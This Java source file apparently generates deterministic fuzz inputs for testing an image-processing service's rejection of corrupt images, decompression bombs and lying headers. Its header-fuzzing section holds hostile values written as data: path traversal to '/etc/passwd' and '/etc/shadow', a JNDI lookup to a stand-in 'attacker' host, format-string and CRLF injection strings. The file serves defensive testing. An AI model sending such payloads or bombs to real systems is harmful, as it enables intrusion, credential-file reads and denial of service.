package io.visionstream.fuzz;

import io.visionstream.TestImages;
import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.Transparency;
import java.awt.color.ColorSpace;
import java.awt.image.BufferedImage;
import java.awt.image.ComponentColorModel;
import java.awt.image.DataBuffer;
import java.awt.image.Raster;
import java.awt.image.WritableRaster;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import javax.imageio.IIOImage;
import javax.imageio.ImageIO;
import javax.imageio.ImageWriteParam;
import javax.imageio.ImageWriter;
import javax.imageio.stream.ImageOutputStream;

/**
 * Deterministic hostile traffic: what cameras, broken gateways and attackers put on the images topic. Each
 * input says which outcomes are acceptable ({@link #RESULT} or reject reasons), so a test can tell "answered
 * sensibly" from "answered". Built from real images (a sample photo re-encoded as JPEG, PNG, GIF and BMP) by
 * flipping bits, cutting, lying in headers, and from hand-made bombs and signatures of formats we refuse.
 */
public final class HostileInputs {
    public static final String RESULT = "result";
    /** The model the inputs assume the job serves (and serves by default). */
    public static final String MODEL = "nanodet-coco";

    private static final Set<String> DAMAGED = Set.of(RESULT, "CORRUPT_IMAGE", "UNSUPPORTED_FORMAT", "TOO_MANY_PIXELS");

    /** One record: key, value, headers (model, profile, frame as sent, absent when null) and what may come back. */
    public record Input(String kind, byte[] key, byte[] value, Map<String, byte[]> headers, Set<String> allowed) {
        @Override
        public String toString() {
            return kind + " (" + (value == null ? 0 : value.length) + " bytes)";
        }
    }

    private final Random rnd;
    private final List<Input> out = new ArrayList<>();
    private final Map<String, byte[]> base = new LinkedHashMap<>();

    private HostileInputs(long seed) {
        rnd = new Random(seed);
    }

    /** The full set (about 1,200 inputs), the same for the same seed. */
    public static List<Input> generate(long seed) {
        HostileInputs g = new HostileInputs(seed);
        g.build();
        return List.copyOf(g.out);
    }

    /** Every {@code step}-th input of the full set: the same variety, fewer records. */
    public static List<Input> sample(long seed, int step) {
        List<Input> all = generate(seed);
        List<Input> s = new ArrayList<>();
        for (int i = 0; i < all.size(); i += step) {
            s.add(all.get(i));
        }
        return s;
    }

    private void build() {
        BufferedImage photo = photo();
        base.put("jpeg", encode(photo, "jpg"));
        base.put("png", encode(photo, "png"));
        base.put("gif", encode(photo, "gif"));
        base.put("bmp", encode(photo, "bmp"));
        for (Map.Entry<String, byte[]> e : base.entrySet()) {
            add("clean " + e.getKey(), e.getValue(), Set.of(RESULT));
        }
        bitFlips(photo);
        truncations();
        lyingHeaders();
        zerosAndNoise();
        colourKinds(photo);
        animationsAndJpegVariants(photo);
        otherFormats(photo);
        bombs();
        hostileHeaders();
    }

    private void bitFlips(BufferedImage photo) {
        for (Map.Entry<String, byte[]> e : base.entrySet()) {
            for (int i = 0; i < 130; i++) {
                byte[] b = e.getValue().clone();
                int flips = 1 + rnd.nextInt(16);
                for (int f = 0; f < flips; f++) {
                    int at = rnd.nextInt(b.length);
                    b[at] ^= (byte) (1 << rnd.nextInt(8));
                }
                add("bit flips " + e.getKey(), b, DAMAGED);
            }
        }
    }

    private void truncations() {
        for (Map.Entry<String, byte[]> e : base.entrySet()) {
            for (int i = 0; i < 50; i++) {
                byte[] b = e.getValue();
                // a GIF cut in its image data still decodes (missing rows stay blank): that is a result
                add("truncated " + e.getKey(), Arrays.copyOf(b, 1 + rnd.nextInt(b.length - 1)), DAMAGED);
            }
        }
    }

    private void lyingHeaders() {
        for (int[] wh : new int[][] {{100_000, 100_000}, {60_000, 60_000}, {1, Integer.MAX_VALUE}, {65_535, 65_535}}) {
            add("png claims " + wh[0] + "x" + wh[1], TestImages.pngClaiming(wh[0], wh[1]), Set.of("TOO_MANY_PIXELS"));
        }
        add("png claims negative width", TestImages.pngClaiming(Integer.MIN_VALUE, 10), Set.of("CORRUPT_IMAGE"));
        // within the pixel limit, but 16-bit RGBA: 8 bytes per pixel, 288 MB decoded
        byte[] rgba16 = TestImages.pngClaiming(6000, 6000);
        rgba16[24] = 16;
        rgba16[25] = 6;
        add("16-bit RGBA png claims 6000x6000", rgba16, Set.of("TOO_MANY_PIXELS"));
        add("png claims 0x0", TestImages.pngClaiming(0, 0), Set.of("CORRUPT_IMAGE"));
        add("jpeg SOF claims 65535x65535", jpegClaiming(65_535, 65_535), Set.of("TOO_MANY_PIXELS"));
        add("jpeg SOF claims 0 height", jpegClaiming(256, 0), Set.of("CORRUPT_IMAGE"));
        // within the pixel limit, far above the data: the decoder runs out of data
        add("jpeg SOF claims 4000x3000", jpegClaiming(4000, 3000), Set.of("CORRUPT_IMAGE"));
        add("gif screen claims 65535x65535", patchLe16(base.get("gif"), 6, 65_535, 65_535), Set.of("TOO_MANY_PIXELS"));
        add("gif screen 10x10, frame 256x192", patchLe16(base.get("gif"), 6, 10, 10), Set.of("CORRUPT_IMAGE"));
        add("bmp claims 30000x30000", patchLe32(base.get("bmp"), 18, 30_000, 30_000), Set.of("TOO_MANY_PIXELS"));
        add("bmp claims 3000x2000", patchLe32(base.get("bmp"), 18, 3000, 2000), Set.of("CORRUPT_IMAGE"));
        add("bmp claims -256 x -192", patchLe32(base.get("bmp"), 18, -256, -192), Set.of("CORRUPT_IMAGE"));
        byte[] junk = new byte[3 << 20];
        rnd.nextBytes(junk);
        for (String f : List.of("jpeg", "png", "bmp")) {
            add("small " + f + " with 3 MB of trailing junk", concat(base.get(f), junk), Set.of(RESULT, "CORRUPT_IMAGE"));
        }
    }

    private void zerosAndNoise() {
        add("empty", new byte[0], Set.of("EMPTY"));
        for (int n : new int[] {1, 2, 3, 7, 8, 64, 1024, 65_536, 1 << 20}) {
            add("zeros " + n, new byte[n], Set.of("UNSUPPORTED_FORMAT"));
        }
        for (int i = 0; i < 100; i++) {
            byte[] b = new byte[1 + rnd.nextInt(64 * 1024)];
            rnd.nextBytes(b);
            add("random bytes", b, Set.of("UNSUPPORTED_FORMAT", "CORRUPT_IMAGE", "TOO_MANY_PIXELS"));
        }
        for (Map.Entry<String, byte[]> e : base.entrySet()) {
            int magic = e.getKey().equals("png") ? 8 : e.getKey().equals("gif") ? 6 : e.getKey().equals("bmp") ? 2 : 3;
            for (int i = 0; i < 20; i++) {
                byte[] b = new byte[magic + 1 + rnd.nextInt(32 * 1024)];
                rnd.nextBytes(b);
                System.arraycopy(e.getValue(), 0, b, 0, magic);
                add(e.getKey() + " magic + random", b, DAMAGED);
            }
        }
    }

    private void colourKinds(BufferedImage photo) {
        int w = photo.getWidth();
        int h = photo.getHeight();
        for (int rep = 0; rep < 3; rep++) {
            BufferedImage gray = convert(photo, BufferedImage.TYPE_BYTE_GRAY);
            add("gray jpeg", encode(gray, "jpg"), Set.of(RESULT));
            add("gray png", encode(gray, "png"), Set.of(RESULT));
            add("gray 16-bit png", encode(convert(photo, BufferedImage.TYPE_USHORT_GRAY), "png"), Set.of(RESULT));
            add("rgb 16-bit png", encode(rgb16(photo), "png"), Set.of(RESULT));
            BufferedImage palette = convert(photo, BufferedImage.TYPE_BYTE_INDEXED);
            add("palette png", encode(palette, "png"), Set.of(RESULT));
            add("palette bmp", encode(palette, "bmp"), Set.of(RESULT));
            add("1-bit bmp", encode(convert(photo, BufferedImage.TYPE_BYTE_BINARY), "bmp"), Set.of(RESULT));
            add("1-bit png", encode(convert(photo, BufferedImage.TYPE_BYTE_BINARY), "png"), Set.of(RESULT));
            BufferedImage alpha = new BufferedImage(w, h, BufferedImage.TYPE_INT_ARGB);
            Graphics2D g = alpha.createGraphics();
            g.drawImage(photo, 0, 0, null);
            g.setComposite(java.awt.AlphaComposite.Clear);
            g.fillRect(0, 0, w / 3, h);
            g.dispose();
            add("alpha png", encode(alpha, "png"), Set.of(RESULT));
            add("16-bit rgb565 bmp", encode(convert(photo, BufferedImage.TYPE_USHORT_565_RGB), "bmp"), Set.of(RESULT));
            add("cmyk jpeg", cmykJpeg(photo, false), Set.of(RESULT));
            add("adobe cmyk jpeg", cmykJpeg(photo, true), Set.of(RESULT));
        }
    }

    private void animationsAndJpegVariants(BufferedImage photo) {
        for (int frames : new int[] {2, 50, 300}) {
            add("animated gif, " + frames + " frames", animatedGif(frames), Set.of(RESULT));
        }
        for (float q : new float[] {0.2f, 0.5f, 0.75f, 0.9f, 1f}) {
            add("progressive jpeg q" + q, jpeg(photo, q, true), Set.of(RESULT));
        }
        for (int orientation = 1; orientation <= 8; orientation++) {
            add("exif orientation " + orientation, withExif(base.get("jpeg"), orientation), Set.of(RESULT));
        }
    }

    private void otherFormats(BufferedImage photo) {
        add("real tiff", encode(photo, "tiff"), Set.of("UNSUPPORTED_FORMAT"));
        Map<String, byte[]> signatures = new LinkedHashMap<>();
        signatures.put("tiff II", ascii("II*\0\u0008\0\0\0"));
        signatures.put("tiff MM", ascii("MM\0*\0\0\0\u0008"));
        signatures.put("webp", concat(ascii("RIFF"), le32(1000), ascii("WEBPVP8 ")));
        signatures.put("heic", concat(be32(24), ascii("ftypheic\0\0\0\0mif1heic")));
        signatures.put("avif", concat(be32(24), ascii("ftypavif\0\0\0\0mif1avif")));
        signatures.put("jpeg 2000", new byte[] {0, 0, 0, 12, 'j', 'P', ' ', ' ', 13, 10, (byte) 0x87, 10});
        signatures.put("jpeg xl", new byte[] {(byte) 0xFF, 0x0A});
        signatures.put("ico", new byte[] {0, 0, 1, 0, 1, 0, 16, 16});
        signatures.put("pdf", ascii("%PDF-1.7\n"));
        signatures.put("zip", new byte[] {'P', 'K', 3, 4});
        signatures.put("svg", ascii("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100000\" height=\"100000\"/>"));
        signatures.put("psd", ascii("8BPS"));
        for (Map.Entry<String, byte[]> e : signatures.entrySet()) {
            byte[] tail = new byte[2048];
            rnd.nextBytes(tail);
            add(e.getKey() + " signature", concat(e.getValue(), tail), Set.of("UNSUPPORTED_FORMAT"));
        }
    }

    private void bombs() {
        // 8000×8000 RGB of zeros: 192 MB decoded, a few hundred KB sent
        add("png bomb 8000x8000", new PngBuilder().header(8000, 8000, 2)
                .chunk("IDAT", PngBuilder.zeroRows(8000 * 3, 8000)).end().bytes(), Set.of("TOO_MANY_PIXELS"));
        // within the limit: decodes to 48 MB, which the guard allows
        add("png bomb 4000x4000 (allowed)", new PngBuilder().header(4000, 4000, 0)
                .chunk("IDAT", PngBuilder.zeroRows(4000, 4000)).end().bytes(), Set.of(RESULT));
        // IDAT whose length field says 2 GB and whose data inflates to more rows than the image has, no IEND
        add("png IDAT never ends", new PngBuilder().header(1000, 1000, 2)
                .chunk("IDAT", PngBuilder.zeroRows(3000, 20_000), Integer.MAX_VALUE).bytes(), Set.of(RESULT, "CORRUPT_IMAGE"));
        add("png IDAT stream cut short", new PngBuilder().header(1000, 1000, 2)
                .chunk("IDAT", Arrays.copyOf(PngBuilder.zeroRows(3000, 1000), 100)).end().bytes(), Set.of("CORRUPT_IMAGE"));
        PngBuilder many = new PngBuilder().header(1000, 1000, 2);
        byte[] data = PngBuilder.zeroRows(3000, 1000);
        for (int i = 0; i < data.length; i++) {
            many.chunk("IDAT", new byte[] {data[i]});
        }
        add("png one-byte IDATs", many.end().bytes(), Set.of(RESULT));
        add("png 5000 empty chunks", manyEmptyChunks(5000), Set.of(RESULT, "CORRUPT_IMAGE"));
        byte[] gif = base.get("gif").clone();
        add("gif bomb screen 8000x8000", patchLe16(gif, 6, 8000, 8000), Set.of("TOO_MANY_PIXELS"));
        add("bmp bomb 9000x9000", patchLe32(base.get("bmp"), 18, 9000, 9000), Set.of("TOO_MANY_PIXELS"));
    }

    private void hostileHeaders() {
        byte[] jpeg = base.get("jpeg");
        String tenK = "A".repeat(10_240);
        StringBuilder text = new StringBuilder();
        while (text.length() < 10_240) {
            text.append("camera 7 says: ").append(rnd.nextInt()).append(" ünïcødé ✓ ");
        }
        Set<String> unknownModel = Set.of("UNKNOWN_MODEL");
        for (String model : List.of("../../etc/passwd", "/etc/passwd", "classpath:models/models.yaml", "nanodet-coco/../ppocr",
                "file:///etc/shadow", tenK, text.toString(), "NANODET-COCO", "yolov99", "nanodet-coco\u0000", "\u202Eococ-tedonan",
                "%s%n%x", "${jndi:ldap://attacker/x}", "ppocr", "nanodet-coco\nX-Injected: 1")) {
            add("model header " + abbreviate(model), null, jpeg, model, null, null, unknownModel);
        }
        add("model header invalid UTF-8", null, jpeg, Map.of("model", new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF}), unknownModel);
        add("model header empty", null, jpeg, "", null, null, Set.of(RESULT));
        add("model header blank", null, jpeg, "   ", null, null, Set.of(RESULT));
        add("model header padded", null, jpeg, " nanodet-coco ", null, null, Set.of(RESULT));
        for (String profile : List.of("../../etc/passwd", tenK, text.toString(), "id_card", "%n%n%n")) {
            add("profile header " + abbreviate(profile), null, jpeg, null, profile, null, Set.of("UNKNOWN_PROFILE"));
        }
        add("profile header empty", null, jpeg, null, "", null, Set.of(RESULT));
        add("profile header default", null, jpeg, null, "default", null, Set.of(RESULT));
        for (String frame : List.of("-1", "abc", "99999999999999999999999", tenK, "1e9")) {
            add("frame header " + abbreviate(frame), null, jpeg, null, null, frame, Set.of(RESULT));
        }
        add("key of 10 kB", tenK.getBytes(StandardCharsets.UTF_8), jpeg, Map.of(), Set.of(RESULT));
        add("no key", new byte[0], jpeg, Map.of(), Set.of(RESULT));
        add("binary key", new byte[] {0, (byte) 0xFF, 10, 13}, jpeg, Map.of(), Set.of(RESULT));
        add("unknown model, empty value", null, new byte[0], "../../etc/passwd", null, null, Set.of("EMPTY"));
    }

    // ---- building blocks ----

    private void add(String kind, byte[] value, Set<String> allowed) {
        add(kind, null, value, Map.of(), allowed);
    }

    private void add(String kind, byte[] key, byte[] value, String model, String profile, String frame, Set<String> allowed) {
        Map<String, byte[]> headers = new LinkedHashMap<>();
        if (model != null) {
            headers.put("model", model.getBytes(StandardCharsets.UTF_8));
        }
        if (profile != null) {
            headers.put("profile", profile.getBytes(StandardCharsets.UTF_8));
        }
        if (frame != null) {
            headers.put("frame", frame.getBytes(StandardCharsets.UTF_8));
        }
        add(kind, key, value, headers, allowed);
    }

    private void add(String kind, byte[] key, byte[] value, Map<String, byte[]> headers, Set<String> allowed) {
        byte[] k = key != null ? key : ("fuzz-" + (out.size() % 16)).getBytes(StandardCharsets.UTF_8);
        out.add(new Input(kind, k, value, headers, allowed));
    }

    private static String abbreviate(String s) {
        String printable = s.replaceAll("\\p{Cntrl}", "?");
        return printable.length() <= 24 ? "'" + printable + "'" : "'" + printable.substring(0, 12) + "…' (" + s.length() + " chars)";
    }

    private static BufferedImage photo() {
        try {
            BufferedImage dog = ImageIO.read(new ByteArrayInputStream(TestImages.sample("dog.jpg")));
            BufferedImage small = new BufferedImage(256, 192, BufferedImage.TYPE_3BYTE_BGR);
            Graphics2D g = small.createGraphics();
            g.drawImage(dog, 0, 0, 256, 192, null);
            g.dispose();
            return small;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static BufferedImage convert(BufferedImage src, int type) {
        BufferedImage out = new BufferedImage(src.getWidth(), src.getHeight(), type);
        Graphics2D g = out.createGraphics();
        g.drawImage(src, 0, 0, null);
        g.dispose();
        return out;
    }

    private static BufferedImage rgb16(BufferedImage src) {
        ComponentColorModel cm = new ComponentColorModel(ColorSpace.getInstance(ColorSpace.CS_sRGB), false, false,
                Transparency.OPAQUE, DataBuffer.TYPE_USHORT);
        WritableRaster r = cm.createCompatibleWritableRaster(src.getWidth(), src.getHeight());
        for (int y = 0; y < src.getHeight(); y++) {
            for (int x = 0; x < src.getWidth(); x++) {
                int rgb = src.getRGB(x, y);
                r.setPixel(x, y, new int[] {((rgb >> 16) & 0xFF) * 257, ((rgb >> 8) & 0xFF) * 257, (rgb & 0xFF) * 257});
            }
        }
        return new BufferedImage(cm, r, false, null);
    }

    static byte[] encode(BufferedImage image, String format) {
        try {
            ByteArrayOutputStream b = new ByteArrayOutputStream();
            if (!ImageIO.write(image, format, b)) {
                throw new IllegalStateException("no " + format + " writer for image type " + image.getType());
            }
            return b.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] jpeg(BufferedImage image, float quality, boolean progressive) {
        ImageWriter w = ImageIO.getImageWritersByFormatName("jpeg").next();
        try (ByteArrayOutputStream b = new ByteArrayOutputStream(); ImageOutputStream ios = ImageIO.createImageOutputStream(b)) {
            w.setOutput(ios);
            ImageWriteParam p = w.getDefaultWriteParam();
            p.setCompressionMode(ImageWriteParam.MODE_EXPLICIT);
            p.setCompressionQuality(quality);
            if (progressive) {
                p.setProgressiveMode(ImageWriteParam.MODE_DEFAULT);
            }
            w.write(null, new IIOImage(image, null, null), p);
            ios.flush();
            return b.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } finally {
            w.dispose();
        }
    }

    /**
     * A four-channel JPEG as print workflows make them. With {@code adobe} the file carries an Adobe APP14
     * marker (values stored inverted, as Photoshop writes them); without it, plain CMYK.
     */
    private static byte[] cmykJpeg(BufferedImage photo, boolean adobe) {
        int w = photo.getWidth();
        int h = photo.getHeight();
        WritableRaster cmyk = Raster.createInterleavedRaster(DataBuffer.TYPE_BYTE, w, h, 4, null);
        for (int y = 0; y < h; y++) {
            for (int x = 0; x < w; x++) {
                int rgb = photo.getRGB(x, y);
                int r = (rgb >> 16) & 0xFF;
                int g = (rgb >> 8) & 0xFF;
                int b = rgb & 0xFF;
                int k = 255 - Math.max(r, Math.max(g, b));
                int c = k == 255 ? 0 : (255 - r - k) * 255 / (255 - k);
                int m = k == 255 ? 0 : (255 - g - k) * 255 / (255 - k);
                int ye = k == 255 ? 0 : (255 - b - k) * 255 / (255 - k);
                int[] px = {c, m, ye, k};
                if (adobe) {
                    for (int i = 0; i < 4; i++) {
                        px[i] = 255 - px[i];
                    }
                }
                cmyk.setPixel(x, y, px);
            }
        }
        ImageWriter wr = ImageIO.getImageWritersByFormatName("jpeg").next();
        try (ByteArrayOutputStream bo = new ByteArrayOutputStream(); ImageOutputStream ios = ImageIO.createImageOutputStream(bo)) {
            wr.setOutput(ios);
            wr.write(null, new IIOImage(cmyk, null, null), wr.getDefaultWriteParam());
            ios.flush();
            byte[] plain = bo.toByteArray();
            return adobe ? insertAfterSoi(plain, adobeApp14()) : plain;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } finally {
            wr.dispose();
        }
    }

    private static byte[] adobeApp14() {
        ByteBuffer b = ByteBuffer.allocate(16);
        b.put((byte) 0xFF).put((byte) 0xEE).putShort((short) 14).put(ascii("Adobe"))
                .putShort((short) 100).putShort((short) 0).putShort((short) 0).put((byte) 0); // transform 0: no YCC
        return Arrays.copyOf(b.array(), 16);
    }

    private byte[] animatedGif(int frames) {
        ImageWriter w = ImageIO.getImageWritersByFormatName("gif").next();
        try (ByteArrayOutputStream b = new ByteArrayOutputStream(); ImageOutputStream ios = ImageIO.createImageOutputStream(b)) {
            w.setOutput(ios);
            w.prepareWriteSequence(null);
            for (int i = 0; i < frames; i++) {
                BufferedImage f = new BufferedImage(96, 64, BufferedImage.TYPE_BYTE_INDEXED);
                Graphics2D g = f.createGraphics();
                g.setColor(new Color(rnd.nextInt(0xFFFFFF)));
                g.fillRect(i % 96, 0, 24, 64);
                g.dispose();
                w.writeToSequence(new IIOImage(f, null, null), null);
            }
            w.endWriteSequence();
            ios.flush();
            return b.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } finally {
            w.dispose();
        }
    }

    /** An EXIF APP1 segment with just the orientation tag, right after SOI, as phones write them. */
    private static byte[] withExif(byte[] jpeg, int orientation) {
        ByteBuffer tiff = ByteBuffer.allocate(26).order(ByteOrder.BIG_ENDIAN);
        tiff.put(ascii("MM")).putShort((short) 42).putInt(8) // header, first IFD at 8
                .putShort((short) 1) // one entry
                .putShort((short) 0x0112).putShort((short) 3).putInt(1).putShort((short) orientation).putShort((short) 0)
                .putInt(0); // no next IFD
        byte[] body = concat(ascii("Exif\0\0"), tiff.array());
        ByteBuffer app1 = ByteBuffer.allocate(4 + body.length);
        app1.put((byte) 0xFF).put((byte) 0xE1).putShort((short) (2 + body.length)).put(body);
        return insertAfterSoi(jpeg, app1.array());
    }

    private static byte[] insertAfterSoi(byte[] jpeg, byte[] segment) {
        return concat(Arrays.copyOf(jpeg, 2), segment, Arrays.copyOfRange(jpeg, 2, jpeg.length));
    }

    /** The base JPEG with its frame header's dimensions replaced. */
    private byte[] jpegClaiming(int width, int height) {
        byte[] b = base.get("jpeg").clone();
        for (int i = 2; i + 9 < b.length; ) {
            int marker = b[i + 1] & 0xFF;
            int len = ((b[i + 2] & 0xFF) << 8) | (b[i + 3] & 0xFF);
            if (marker == 0xC0 || marker == 0xC2) {
                b[i + 5] = (byte) (height >> 8);
                b[i + 6] = (byte) height;
                b[i + 7] = (byte) (width >> 8);
                b[i + 8] = (byte) width;
                return b;
            }
            i += 2 + len;
        }
        throw new IllegalStateException("no SOF in the base JPEG");
    }

    private static byte[] manyEmptyChunks(int n) {
        PngBuilder p = new PngBuilder().header(64, 64, 2);
        for (int i = 0; i < n; i++) {
            p.chunk("tEXt", new byte[0]);
        }
        return p.chunk("IDAT", PngBuilder.zeroRows(64 * 3, 64)).end().bytes();
    }

    private static byte[] patchLe16(byte[] src, int at, int a, int b) {
        byte[] out = src.clone();
        ByteBuffer.wrap(out).order(ByteOrder.LITTLE_ENDIAN).putShort(at, (short) a).putShort(at + 2, (short) b);
        return out;
    }

    private static byte[] patchLe32(byte[] src, int at, int a, int b) {
        byte[] out = src.clone();
        ByteBuffer.wrap(out).order(ByteOrder.LITTLE_ENDIAN).putInt(at, a).putInt(at + 4, b);
        return out;
    }

    private static byte[] le32(int v) {
        return ByteBuffer.allocate(4).order(ByteOrder.LITTLE_ENDIAN).putInt(v).array();
    }

    private static byte[] be32(int v) {
        return ByteBuffer.allocate(4).putInt(v).array();
    }

    private static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            b.writeBytes(p);
        }
        return b.toByteArray();
    }
}
